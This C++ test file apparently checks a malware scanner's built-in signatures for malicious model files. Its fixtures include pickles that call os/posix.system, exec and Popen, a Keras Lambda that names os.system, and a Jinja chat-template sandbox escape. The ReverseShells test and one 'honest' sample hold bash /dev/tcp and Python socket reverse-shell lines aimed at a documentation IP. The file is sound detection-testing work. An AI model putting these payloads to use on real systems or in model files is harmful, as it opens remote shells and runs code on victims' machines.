#include "scanner/engine/clamav_builtin.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <cctype>
#include <sstream>
#include <string>
#include <vector>

#include "scanner/base/byte_reader.h"
#include "scanner/base/text.h"
#include "scanner/engine/clamav.h"
#include "scanner/engine/clamav_signature.h"
#include "tests/support/eicar.h"
#include "tests/support/pickle_builder.h"
#include "tests/support/temp_dir.h"

namespace counterscan {
namespace {

using testing::ElementsAre;
using testing::IsEmpty;

std::vector<std::string> Lines() {
  std::vector<std::string> lines;
  std::istringstream all(BuiltinSignatures());
  for (std::string line; std::getline(all, line);) lines.push_back(line);
  return lines;
}

TEST(Builtin, EicarIsTheStandardFile) {
  EXPECT_EQ(EicarTestFile(), Eicar());
  EXPECT_EQ(EicarTestFile().size(), 68U);
}

TEST(Builtin, EverySignatureCanBeMatchedInWindows) {
  for (const std::string& line : Lines()) {
    const SignatureLine signature = ParseExtendedSignature(line);
    EXPECT_TRUE(signature.needs == SignatureNeeds::kReach ||
                signature.needs == SignatureNeeds::kStart)
        << line;
    EXPECT_LE(signature.reach, 20'000U) << line;
  }
}

// One short part would slow the matching of every weights file down ten times.
TEST(Builtin, EveryPartOfASignatureIsLongEnoughForThePrefilter) {
  for (const std::string& line : Lines()) {
    const std::string body = line.substr(line.rfind(':') + 1);
    std::size_t digits = 0;
    bool in_gap = false;
    for (const char c : body + "{") {
      if (c == '{') {
        EXPECT_GE(digits, 10U) << line;
        digits = 0;
      }
      in_gap = c == '{' || (in_gap && c != '}');
      if (!in_gap && std::isxdigit(static_cast<unsigned char>(c)) != 0) ++digits;
    }
  }
}

class BuiltinMatches : public testing::Test {
 protected:
  static void SetUpTestSuite() {
    scratch_ = new TempDir;
    ClamavEngine::Options options;
    options.scratch = scratch_->path();
    engine_ = ClamavEngine::Load(options)->release();
  }
  static void TearDownTestSuite() {
    delete engine_;
    delete scratch_;
  }
  static std::vector<std::string> Names(const std::string& content) {
    return engine_->Match(MemorySource(AsBytes(content)), {}).names;
  }

  static TempDir* scratch_;
  static ClamavEngine* engine_;
};
TempDir* BuiltinMatches::scratch_ = nullptr;
ClamavEngine* BuiltinMatches::engine_ = nullptr;

TEST_F(BuiltinMatches, CallsInPicklesOfEachProtocol) {
  // pickle.dumps of an object whose __reduce__ gives (posix.system, ("true",)), protocols 4, 2, 0.
  const std::string protocol4 = PickleBuilder()
                                    .Proto(4)
                                    .Raw("\x8c\x05posix\x94\x8c\x06system\x94\x93\x94")
                                    .Raw("\x8c\x04true\x94\x85\x94R\x94.");
  EXPECT_THAT(Names(protocol4), ElementsAre("Counterscan.Pickle.posix.system"));
  EXPECT_THAT(Names(PickleBuilder().Proto(4).StackGlobal("builtins", "exec").Stop()),
              ElementsAre("Counterscan.Pickle.builtins.exec"));
  EXPECT_THAT(Names(PickleBuilder().Proto(2).Global("subprocess", "Popen").Stop()),
              ElementsAre("Counterscan.Pickle.subprocess.Popen"));
  EXPECT_THAT(Names(PickleBuilder()
                        .Proto(2)
                        .EmptyDict()
                        .Put(0)
                        .Global("nt", "system")
                        .Put(1)
                        .BinUnicode("true")
                        .Stop()),
              ElementsAre("Counterscan.Pickle.nt.system"));
  EXPECT_THAT(Names("cposix\nsystem\np0\n(Vtrue\np1\ntp2\nRp3\n."),
              ElementsAre("Counterscan.Pickle.posix.system"));
  EXPECT_THAT(Names("cos\nsystem\n(S'true'\ntR."),
              ElementsAre("Counterscan.Pickle.os.system.Text"));
}

TEST_F(BuiltinMatches, LambdaWhoseCodeNamesSystemWhereverItFallsInBase64) {
  for (std::size_t shift = 0; shift < 6; ++shift) {
    const std::string code =
        std::string("\xe3\1\0\0\0", 5) + std::string(40 + shift, 'x') + "\xda\x06system\xda\x02os";
    const std::string config =
        R"({"class_name": "__lambda__", "config": {"code": ")" + Base64(code) + R"("}})";
    EXPECT_THAT(Names(config), ElementsAre("Counterscan.Keras.Lambda.System")) << shift;
  }
}

TEST_F(BuiltinMatches, TemplatesThatLeaveTheirSandbox) {
  const std::string escape = "{{ cycler.__init__.__globals__.os.popen('true') }}";
  const std::string gguf = std::string("tokenizer.chat_template\x08\0\0\0", 27) +
                           std::string("\x40\0\0\0\0\0\0\0", 8) + std::string(9000, ' ') + escape;
  EXPECT_THAT(Names(gguf), ElementsAre("Counterscan.Template.Gguf"));
  EXPECT_THAT(Names(R"({"chat_template": ")" + escape + R"("})"),
              ElementsAre("Counterscan.Template.Json"));
}

TEST_F(BuiltinMatches, ReverseShells) {
  EXPECT_THAT(Names("#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1\n"),
              ElementsAre("Counterscan.Shell.Bash.Script"));
  EXPECT_THAT(Names("\x8c\x28"
                    "bash -i >& /dev/tcp/192.0.2.1/1 0>&1\x94\x85\x94R\x94."),
              ElementsAre("Counterscan.Shell.Bash.Call"));
  EXPECT_THAT(Names("import socket,subprocess,os;s=socket.socket(socket.AF_INET,"
                    "socket.SOCK_STREAM);s.connect((\"192.0.2.1\",1))"),
              ElementsAre("Counterscan.Shell.Python.Script"));
}

TEST_F(BuiltinMatches, NothingInHonestFilesThatMentionTheSameWords) {
  const std::vector<std::string> honest = {
      "# Pickles can run code\n\n    cos\n    system\n    (S'true'\n    tR.\n",
      "word list:\ncos\nsystem\nos\nios\nposix\n",
      "os.system('true'); subprocess.Popen(['true']); eval('1')",
      R"({"text": "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1 opens a shell"})",
      R"({"class_name": "Lambda", "config": {"code": "4wEAAAAAAAAAAAAAAAABAAAAQwAAAHMIAAAAfABkARsA"}})",
      R"({"chat_template": "{% for message in messages %}{{ message.content }}{% endfor %}"})",
      PickleBuilder()
          .Proto(2)
          .Global("torch._utils", "_rebuild_tensor_v2")
          .Put(0)
          .BinUnicode("system")
          .Stop(),
  };
  for (const std::string& content : honest) EXPECT_THAT(Names(content), IsEmpty()) << content;
}

}  // namespace
}  // namespace counterscan
